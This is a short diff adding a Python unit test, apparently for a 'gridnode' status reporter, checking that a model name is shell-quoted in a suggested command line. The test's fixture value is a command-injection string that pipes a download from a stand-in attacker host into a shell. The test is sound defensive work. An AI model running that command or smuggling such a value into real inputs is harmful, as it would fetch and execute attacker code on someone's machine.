@@ -121,3 +121,10 @@ def test_a_pause_and_its_end_are_told_once() -> None:
     assert news(STATUS, resting, DOORSTEP) == ["  resting  paused until that changes: on battery"]
     assert news(resting, resting, DOORSTEP) == []
     assert news(resting, STATUS, DOORSTEP) == ["  resumed  it serves again"]
+
+
+def test_a_strangers_name_is_no_command() -> None:
+    gap = with_gap(STATUS)
+    status = replace(gap, models=(replace(gap.models[0], name="x; curl evil.example|sh #"),))
+    lines = news(LOADING, status, replace(DOORSTEP, model=""))
+    assert "gridnode up --model 'x; curl evil.example|sh #' --blocks 10:30 " in lines[-1]
